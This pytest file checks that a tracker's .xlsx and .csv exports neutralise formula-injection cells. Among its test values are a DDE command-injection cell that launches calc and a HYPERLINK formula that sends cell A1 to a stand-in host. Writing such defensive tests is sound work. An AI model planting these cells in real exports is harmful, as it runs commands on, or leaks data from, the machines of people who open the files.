"""Issue 13.1: no cell the project writes to .xlsx or .csv is ever a live formula.

Every output is built from data holding the hostile cells of the issue and read back: in .xlsx
no cell is a formula and formula-like text carries the quote prefix; in .csv every such cell
starts with «'» (OWASP).
"""
from __future__ import annotations

from datetime import date

import pytest
from hostile_cells import HOSTILE, csv_cells, csv_formula_cells, xlsx_formula_cells, xlsx_texts
from typer.testing import CliRunner

from db import MemoryStore
from parsers.model import Deadline, DocumentInfo, ExtractedOrder, ParseResult, Party
from tracker.drafting.data import (
    ActRef,
    ChangeRow,
    DisciplineLine,
    Letterhead,
    ListGroup,
    OverdueLine,
    PageLink,
    QuarterlyData,
    QuarterlyListRow,
    Registration,
    ReportData,
    ReportTotals,
)
from tracker.drafting.quarterly import write_change_sheet
from tracker.drafting.report import write_report_xlsx
from tracker.registry.service import RegistryService
from tracker.spreadsheet_safety import csv_cell, formula_like, unquote_csv_cell

# -- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_strings_are_recognised(value):
    assert formula_like(value)
    assert csv_cell(value) == "'" + value and unquote_csv_cell(csv_cell(value)) == value


@pytest.mark.parametrize("value", ["Иванова А.А.", "", "https://vk.com/club1", "1611-п", "'просто апостроф",
                                   "a=b", "8 (484) 396-00-00"])
def test_ordinary_text_is_written_as_it_is(value):
    assert not formula_like(value) and csv_cell(value) == value and unquote_csv_cell(value) == value


@pytest.mark.parametrize("value", [-5, 3.5, date(2026, 1, 1), None, True])
def test_numbers_and_dates_are_not_text_and_stay_as_they_are(value):
    assert not formula_like(value) and csv_cell(value) is value


# -- tracker export --xlsx / --csv --------------------------------------------------------------


def hostile_act(source: str) -> ParseResult:
    """A parsed act whose texts, numbers and executors are the hostile cells."""
    orders = [
        ExtractedOrder(str(n), None, text, (n, n + 1), [Party(text, text)],
                       deadline=Deadline(text=text, date=date(2024, 2, 1)), confidence=0.9)
        for n, text in enumerate(HOSTILE, start=1)
    ]
    return ParseResult(source=source, format="txt", text="текст акта " * 5,
                       document=DocumentInfo(kind="постановление", number="=1+1", date=date(2024, 1, 15),
                                             issuer="Правительство", title="@SUM(1+1)"),
                       orders=orders)


@pytest.fixture
def cli_with_hostile_orders(tmp_path, monkeypatch):
    import parsers
    from cli.main import build_app

    act = tmp_path / "act.txt"
    act.write_text("ПОСТАНОВЛЕНИЕ", encoding="utf-8")
    from parsers import pipeline

    monkeypatch.setattr(parsers, "parse_file", lambda path, source=None, ocr=None: hostile_act(str(path)))
    monkeypatch.setattr(pipeline, "parse_files", lambda paths, sources=None, ocr=None: (hostile_act(str(p)) for p in paths))
    runner, app = CliRunner(), build_app()
    env = {"TRACKER_DB": str(tmp_path / "tracker.db"), "TRACKER_TODAY": "01.03.2024"}

    def run(*args: str):
        return runner.invoke(app, list(args), env=env, catch_exceptions=False)

    assert run("import", "--yes", str(act)).exit_code == 0
    return run


def test_orders_export_xlsx_has_no_live_formula(cli_with_hostile_orders, tmp_path):
    out = tmp_path / "поручения.xlsx"
    assert cli_with_hostile_orders("export", "--xlsx", str(out)).exit_code == 0
    assert xlsx_formula_cells(out) == []
    texts = xlsx_texts(out)
    assert '=HYPERLINK("http://x/?"&A1,"click")' in texts and "@SUM(1+1)" in texts  # kept, as text


def test_orders_export_csv_quotes_every_formula_like_cell(cli_with_hostile_orders, tmp_path):
    out = tmp_path / "поручения.csv"
    assert cli_with_hostile_orders("export", "--csv", str(out)).exit_code == 0
    assert csv_formula_cells(out) == []
    cells = csv_cells(out)
    assert "'=cmd|' /C calc'!A0" in cells and "'-2+3" in cells


# -- tracker registry export ---------------------------------------------------------------------
REGISTRY_HEADER = ["№ п/п", "Муниципальное образование", "Наименование учреждения", "Тип", "ВКонтакте",
                   "ФИО ответственного", "Должность", "Телефон", "E-mail"]


@pytest.fixture
def hostile_registry(tmp_path) -> RegistryService:
    """A registry imported from a .csv whose text cells are the hostile ones."""
    import csv

    path = tmp_path / "реестр.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        writer.writerow(REGISTRY_HEADER)
        for n, text in enumerate(HOSTILE, start=1):
            writer.writerow([str(n), text, f"{text} учреждение {n}", "", f"https://vk.com/club{n}00",
                             text, text, "+7 (484) 396-00-00", f"smm{n}@example.ru"])
    service = RegistryService(MemoryStore(), today=lambda: date(2026, 10, 1), who="тест")
    preview = service.preview_import(path)
    service.commit_import(preview)
    assert len(service.as_of(date(2026, 10, 1))) == len(HOSTILE)
    return service


def test_registry_export_xlsx_has_no_live_formula(hostile_registry, tmp_path):
    out = tmp_path / "реестр.xlsx"
    hostile_registry.export(out)
    assert xlsx_formula_cells(out) == []
    assert "=1+2" in xlsx_texts(out)  # the import stripped the tab: the value must still be text


def test_registry_export_csv_quotes_and_reads_back_the_same(hostile_registry, tmp_path):
    out = tmp_path / "реестр.csv"
    hostile_registry.export(out)
    assert csv_formula_cells(out) == []
    assert "'@SUM(1+1)" in csv_cells(out)
    again = RegistryService(MemoryStore(), today=lambda: date(2026, 10, 1), who="тест")
    again.commit_import(again.preview_import(out))
    names = {record.organisation for record in again.as_of(date(2026, 10, 1))}
    assert names == {record.organisation for record in hostile_registry.as_of(date(2026, 10, 1))}
    assert "@SUM(1+1) учреждение 3" in names  # round trip: the «'» is not stored


# -- drafting: the quarterly change sheet and the report .xlsx ----------------------------------
ORG = Letterhead(name="=1+1", name_genitive="@SUM(1+1)")


def test_quarterly_change_sheet_has_no_live_formula(tmp_path):
    rows = [QuarterlyListRow(organisation=text, person=text, position=text, phone=text, email=text, district=text,
                             pages=[PageLink(text, text)], number=n)
            for n, text in enumerate(HOSTILE, start=1)]
    changes = [ChangeRow(text, text, text, text, text) for text in HOSTILE]
    data = QuarterlyData(org=ORG, reg=Registration(), as_of=date(2026, 10, 1), base_act=ActRef(title="=1+1"),
                         list_subject="-x", groups=[ListGroup(name="=1", rows=rows)], changes=changes,
                         since=date(2026, 7, 1))
    out = write_change_sheet(data, tmp_path / "изменения.xlsx", without_employee=HOSTILE)
    assert xlsx_formula_cells(out) == []
    assert set(HOSTILE) <= xlsx_texts(out)


def test_report_xlsx_has_no_live_formula(tmp_path):
    data = ReportData(org=ORG, reg=Registration(), start=date(2026, 1, 1), end=date(2026, 3, 31),
                      today=date(2026, 4, 1), totals=ReportTotals(orders=1),
                      discipline=[DisciplineLine(text, 1, 0, 0, 1, 0.0) for text in HOSTILE],
                      overdue=[OverdueLine(text, text, text, date(2026, 2, 1), 5, text) for text in HOSTILE],
                      act="=1+1", executor="+1")
    out = write_report_xlsx(data, tmp_path / "отчёт.xlsx")
    assert xlsx_formula_cells(out) == []
    assert set(HOSTILE) <= xlsx_texts(out)


def test_the_check_itself_sees_a_live_formula(tmp_path):
    """The reading side of these specs: an unprotected workbook is caught."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(HOSTILE)
    book.save(tmp_path / "raw.xlsx")
    assert len(xlsx_formula_cells(tmp_path / "raw.xlsx")) == len(HOSTILE)
